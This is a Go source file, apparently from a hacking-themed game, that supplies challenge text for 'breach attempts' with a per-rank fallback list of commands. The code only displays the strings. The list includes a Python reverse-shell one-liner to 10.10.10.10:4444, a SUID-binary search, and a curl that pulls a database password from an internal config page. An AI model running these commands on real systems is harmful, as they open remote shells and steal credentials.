// Package payload provides challenge text for breach attempts.
//
// A Source is an external, fallible collaborator. Resolve never fails: source
// errors and short answers are repaired from a fixed per-rank fallback table.
package payload

import (
	"context"
	"errors"
	"regexp"
	"slices"
	"strings"

	"quantumbreach/internal/game"
	"quantumbreach/internal/logging"
)

// StageCount is the number of stages requested for every challenge.
const StageCount = 3

// ErrNoStages is returned by sources that produced no usable line.
var ErrNoStages = errors.New("payload: source returned no usable stages")

// Source produces challenge strings for a node. Implementations may return
// more or fewer than StageCount strings.
type Source interface {
	Generate(ctx context.Context, rank game.Rank, targetName string) ([]string, error)
}

// SourceFunc adapts a function to Source.
type SourceFunc func(ctx context.Context, rank game.Rank, targetName string) ([]string, error)

// Generate calls f.
func (f SourceFunc) Generate(ctx context.Context, rank game.Rank, targetName string) ([]string, error) {
	return f(ctx, rank, targetName)
}

// Fallback returns the fixed stage list for a rank. HARD and PRO lists are
// shorter than StageCount and are used as-is.
func Fallback(rank game.Rank) []string {
	switch rank {
	case game.RankEasy:
		return []string{"id", "cat flag", "ls /bin"}
	case game.RankMedium:
		return []string{"systemctl status sshd", "netstat -antp | grep 80", "tar -czf bck.tgz /var"}
	case game.RankHard:
		return []string{
			"find / -perm -4000 2>/dev/null | xargs -I{} ls -ld {}",
			"curl -s http://internal.lan/config.php | grep 'DB_PASS'",
		}
	case game.RankPro:
		return []string{
			`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.10.10.10",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/bash")'`,
		}
	}
	panic("payload: no fallback for " + rank.String())
}

// Resolution is the outcome of Resolve.
type Resolution struct {
	Stages []string
	// FromFallback is true when the source failed and the fallback list was used whole.
	FromFallback bool
	// Padded counts stages copied from the fallback to fill a short answer.
	Padded int
}

// Resolve asks src for stages and repairs the answer. A nil src behaves like a
// failing source.
func Resolve(ctx context.Context, src Source, rank game.Rank, targetName string) Resolution {
	log := logging.Get(logging.CategoryPayload)

	if src == nil {
		log.Debug("no source configured, using fallback for %s", rank)
		return Resolution{Stages: Fallback(rank), FromFallback: true}
	}

	raw, err := src.Generate(ctx, rank, targetName)
	if err == nil {
		raw = Normalize(raw)
		if len(raw) == 0 {
			err = ErrNoStages
		}
	}
	if err != nil {
		log.Warn("payload generation failed for %s (%s): %v", targetName, rank, err)
		return Resolution{Stages: Fallback(rank), FromFallback: true}
	}

	stages, padded := pad(raw, Fallback(rank))
	if padded > 0 {
		log.Info("padded %d stage(s) for %s from fallback", padded, targetName)
	}
	return Resolution{Stages: stages, Padded: padded}
}

// pad takes the first StageCount lines and fills missing positions from fallback.
func pad(lines, fallback []string) ([]string, int) {
	if len(lines) > StageCount {
		lines = lines[:StageCount]
	}
	out := slices.Clone(lines)
	padded := 0
	for i := len(out); i < StageCount && i < len(fallback); i++ {
		out = append(out, fallback[i])
		padded++
	}
	return out, padded
}

var listPrefix = regexp.MustCompile(`^(\d+[.)]|[-*])\s+`)

// Normalize splits multi-line entries, trims whitespace, drops empty lines and
// markdown fences, and strips list numbering.
func Normalize(raw []string) []string {
	var out []string
	for _, entry := range raw {
		for _, line := range strings.Split(entry, "\n") {
			line = strings.TrimSpace(line)
			if line == "" || strings.HasPrefix(line, "```") {
				continue
			}
			line = strings.TrimSpace(listPrefix.ReplaceAllString(line, ""))
			if line == "" {
				continue
			}
			out = append(out, line)
		}
	}
	return out
}
